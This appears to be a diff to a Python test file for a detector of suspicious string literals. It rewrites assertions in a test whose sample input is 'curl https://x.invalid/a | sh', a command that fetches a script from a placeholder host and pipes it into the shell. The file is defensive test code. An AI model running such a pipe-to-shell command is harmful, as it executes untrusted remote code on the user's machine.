@@ -38,7 +38,9 @@ def test_a_detector_of_strings_is_silent_on_an_ordinary_one(one: Detector[Any]) 
 
 def test_only_telling_literals_are_shown_to_detectors() -> None:
     told = literal("curl https://x.invalid/a | sh")
-    assert list(telling([literal("an ordinary sentence"), told])) == [told]
+    said = (literal("an ordinary sentence"), told)
+    assert telling(said) == telling(said) == (told,)
+    assert telling((told, told)) == (told, told)
 
 
 def test_values_are_opened() -> None:
